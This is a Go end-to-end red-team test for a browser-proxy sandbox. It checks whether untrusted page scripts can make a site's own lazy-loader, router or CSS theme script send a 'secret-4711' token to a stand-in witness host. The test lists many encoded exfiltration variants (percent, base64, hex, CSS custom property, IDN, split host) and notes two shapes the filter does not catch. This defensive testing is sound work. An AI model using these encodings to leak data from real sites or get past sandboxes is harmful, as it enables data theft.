package e2e

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/remixproxy/remixproxy/e2e/e2etest"
	"github.com/remixproxy/remixproxy/sandbox"
	"github.com/remixproxy/remixproxy/store"
)

// Red-team pass 6d, OPEN-ITEMS 29: page scripts as deputies. A benign site's own scripts build
// addresses from what is in the page: a lazy loader that decodes its data-src (percent-encoded,
// as its CMS writes it) or a base64 data-b64, a router that goes to the path in data-go, a
// theme script that loads the image a CSS custom property names. A remixlet with no network
// permission writes the data in such a shape; nothing may reach the witness: refused as an
// address in a value (remixlet/deputies.go) or as a request to a site the remixlet named
// (remixlet/namedhosts.go: a host and a path in two attributes, an address in a text node). Two
// shapes are probed and only logged (the rule cannot see them; NOTES.deputy6.md says why): a
// host's two labels in two attributes, and hex.

const pageDeputiesPage = `<!doctype html><html><head><meta charset="utf-8"><title>Gallery</title></head><body>
<h1>Gallery</h1><div id="box"></div><p id="done"></p>
<script>
// The site's lazy loader, router and theme loader, run on every element added or changed.
const seen = new WeakSet();
function look(el) {
  if (el.nodeType !== 1) return;
  let u = '';
  const src = el.getAttribute('data-src');
  if (src) u = decodeURIComponent(src);
  const b64 = el.getAttribute('data-b64');
  if (b64) u = atob(b64);
  const host = el.getAttribute('data-host');
  if (host) u = 'https://' + host + (el.getAttribute('data-path') || '/');
  if (el.hasAttribute('data-text-src')) u = el.textContent.trim();
  const ha = el.getAttribute('data-ha');
  if (ha) u = 'https://' + ha + '.' + el.getAttribute('data-hb') + '/labels/secret-4711';
  const hex = el.getAttribute('data-hex');
  if (hex) u = hex.match(/../g).map((h) => String.fromCharCode(parseInt(h, 16))).join('');
  const v = getComputedStyle(el).getPropertyValue('--next').trim().replace(/^["']|["']$/g, '');
  if (v) u = v;
  if (u && !seen.has(el)) {
    seen.add(el);
    const i = new Image();
    i.src = u;
    document.body.append(i);
  }
  const go = el.getAttribute('data-go');
  if (go) location.href = decodeURIComponent(go);
}
new MutationObserver((ms) => {
  for (const m of ms) {
    if (m.type === 'attributes' || m.type === 'characterData') look(m.target.nodeType === 1 ? m.target : m.target.parentElement);
    for (const n of m.addedNodes) {
      if (n.nodeType === 1) { look(n); n.querySelectorAll('*').forEach(look); } else if (n.parentElement) look(n.parentElement);
    }
  }
}).observe(document.body, {childList: true, subtree: true, attributes: true, characterData: true});
</script></body></html>`

func pageDeputiesSite() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasPrefix(r.URL.Path, "/p/"):
			htmlPage(w, pageDeputiesPage)
		case r.URL.Path == "/go/host":
			// The site's "leaving" page takes a host and path and adds the scheme itself.
			htmlPage(w, `<!doctype html><html><head><title>Leaving</title></head><body><script>location.href = 'https://' + new URLSearchParams(location.search).get('to');</script></body></html>`)
		default:
			w.WriteHeader(http.StatusNoContent)
		}
	})
}

// pageDeputyVariants are the remixlets' scripts, by name; each writes data for the page's
// scripts to turn into a request to the witness at /<name>/secret-4711.
func pageDeputyVariants() map[string]string {
	create := func(attrs string) string {
		return `const d = await dom.create({ tag: 'div', attrs: ` + attrs + `, text: 'x' });
await dom.insert(await dom.query('#box'), d);
`
	}
	b64 := base64.StdEncoding.EncodeToString([]byte("https://witness.test/b64/secret-4711"))
	b64url := base64.URLEncoding.EncodeToString([]byte("https://witness.test/b64url/secret-4711?x=1"))
	return map[string]string{
		"pct":     create(`{ 'data-src': 'https%3A%2F%2Fwitness.test%2Fpct%2Fsecret-4711' }`),
		"pct-low": create(`{ 'data-src': 'https%3a%2f%2fwitness.test/pct-low/secret-4711' }`),
		"pct-all": create(`{ 'data-src': '%68%74%74%70%73%3A%2F%2F%77itness.test/pct-all/secret-4711' }`),
		"b64":     create(`{ 'data-b64': '` + b64 + `' }`),
		"b64url":  create(`{ 'data-b64': '` + strings.TrimRight(b64url, "=") + `' }`),
		"setattr": `const d = await dom.create({ tag: 'div', text: 'x' });
await dom.insert(await dom.query('#box'), d);
await dom.setAttr(d, 'data-src', 'https%3A%2F%2Fwitness.test%2Fsetattr%2Fsecret-4711');
`,
		"sethtml": `await dom.setHTML(await dom.query('#box'), '<div data-src="https%3A%2F%2Fwitness.test%2Fsethtml%2Fsecret-4711">x</div>');
`,
		"router":     create(`{ 'data-go': '/go/host?to=witness.test/router/secret-4711' }`),
		"router-pct": create(`{ 'data-go': '%2Fgo%2Fhost%3Fto%3Dwitness.test%2Frouter-pct%2Fsecret-4711' }`),
		"css-add": `await dom.addStyle('.rxnext { --next: "https://witness.test/css-add/secret-4711"; }');
` + create(`{ class: 'rxnext' }`),
		"css-inline": `const d = await dom.create({ tag: 'div', text: 'x' });
await dom.setStyle(d, { '--next': '"https://witness.test/css-inline/secret-4711"' });
await dom.insert(await dom.query('#box'), d);
`,
		"css-file": create(`{ class: 'rxfile' }`), // with pageDeputyStyles' style.css
		"css-bare": `await dom.addStyle('.rxnext { --next: https://witness.test/css-bare/secret-4711; }');
` + create(`{ class: 'rxnext' }`),
		"split": create(`{ 'data-host': 'witness.test', 'data-path': '/split/secret-4711' }`),
		"text": `const d = await dom.create({ tag: 'div', attrs: { 'data-text-src': '' }, text: 'https://witness.test/text/secret-4711' });
await dom.insert(await dom.query('#box'), d);
`,
		// A host in another script: the browser asks its punycode, xn--wtness-3va.test.
		"idn":       create(`{ 'data-host': 'wítness.test', 'data-path': '/idn/secret-4711' }`),
		"fullwidth": create(`{ 'data-host': 'ｗｉｔｎｅｓｓ。test', 'data-path': '/fullwidth/secret-4711' }`),
		// Residual shapes, logged only.
		"labels": create(`{ 'data-ha': 'witness', 'data-hb': 'test' }`),
		"hex":    create(`{ 'data-hex': '` + hex.EncodeToString([]byte("https://witness.test/hex/secret-4711")) + `' }`),
	}
}

// pageDeputyStyles are the variants' style.css files.
var pageDeputyStyles = map[string]string{
	"css-file": `.rxfile { --next: "https://witness.test/css-file/secret-4711"; }`,
}

// pageDeputyResiduals are the variants the rule does not see (see the top of the file).
var pageDeputyResiduals = map[string]bool{"labels": true, "hex": true}

func TestRedteamPageScriptsAsDeputies(t *testing.T) {
	wit := &witness{}
	sites, p, tab := e2etest.StartProxied(t, map[string]http.Handler{
		"deputies.test":       pageDeputiesSite(),
		"witness.test":        wit,
		"xn--wtness-3va.test": wit,
	}, e2etest.WithStore())
	variants := pageDeputyVariants()
	ids := map[string]string{}
	for name, script := range variants {
		files := store.Files{
			sandbox.ManifestFile: guardManifest("page deputy "+name, "https://deputies.test/p/"+name),
			sandbox.ScriptFile:   []byte(script + "await dom.setText(await dom.query('#done'), 'written');\n"),
		}
		if css, ok := pageDeputyStyles[name]; ok {
			files[sandbox.StyleFile] = []byte(css)
		}
		rx := saveUnchecked(t, p.Store, "page deputy "+name, files)
		ids[name] = rx.ID
	}

	// Control: the page's scripts do load what they are given, when the page itself writes it.
	tab.Navigate("https://deputies.test/p/control")
	tab.WaitConnected()
	e2etest.Eval[bool](tab, `(() => { const d = document.createElement('div'); d.setAttribute('data-src', 'https%3A%2F%2Fwitness.test%2Fcontrol'); document.getElementById('box').append(d); return true; })()`)
	for deadline := time.Now().Add(10 * time.Second); sites.Requests("witness.test", "/control") == 0; time.Sleep(100 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("the page's lazy loader did not load the control: the zero counts below prove nothing")
		}
	}

	// The residual shapes first: a site another variant named stays refused for the origin's
	// pages a few seconds after that page went (namedhosts.go), which would hide what they show.
	names := slices.Sorted(maps.Keys(variants))
	sort.SliceStable(names, func(i, j int) bool { return pageDeputyResiduals[names[i]] && !pageDeputyResiduals[names[j]] })
	for _, name := range names {
		tab.Navigate("https://deputies.test/p/" + name)
		want := "/" + name + "/secret-4711"
		witnessHost := "witness.test"
		if name == "idn" {
			witnessHost = "xn--wtness-3va.test"
		}
		// The remixlet writes (or is refused, and says so), the page's script loads (or the
		// proxy refuses its navigation).
		for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline) && sites.Requests(witnessHost, want) == 0; time.Sleep(200 * time.Millisecond) {
			log := remixletLog(t, p.Store, ids[name])
			if strings.Contains(log, "refused") || strings.Contains(log, "error") {
				break
			}
			if done, err := e2etest.EvalE[string](tab, `(document.getElementById('done') || {}).textContent || ''`); err == nil && done != "" {
				time.Sleep(2 * time.Second) // the page's scripts run on the mutation at once; the router's page forwards at once
				break
			}
		}
		n := sites.Requests(witnessHost, want)
		log := remixletLog(t, p.Store, ids[name])
		switch {
		case pageDeputyResiduals[name]:
			t.Logf("residual %s: %d requests reached the witness (the rule does not see this shape)", name, n)
		case n != 0:
			t.Errorf("BUG: %s: the page's script carried the remixlet's data to the witness (%d requests):\n  %s\nlog:\n%s",
				name, n, strings.Join(wit.requests(), "\n  "), log)
		case !strings.Contains(log, "refused"):
			t.Errorf("%s: nothing reached the witness, but the remixlet's log does not say what was refused:\n%s", name, log)
		default:
			for _, line := range strings.Split(log, "\n") {
				if strings.Contains(line, "refused") {
					t.Logf("%s: %s", name, httpClip(strings.TrimSpace(line), 240))
					break
				}
			}
		}
	}
	if !strings.Contains(fmt.Sprint(wit.requests()), "/control") {
		t.Errorf("the witness's own record lost the control request")
	}
}

func httpClip(s string, n int) string {
	if len(s) > n {
		return s[:n] + "…"
	}
	return s
}
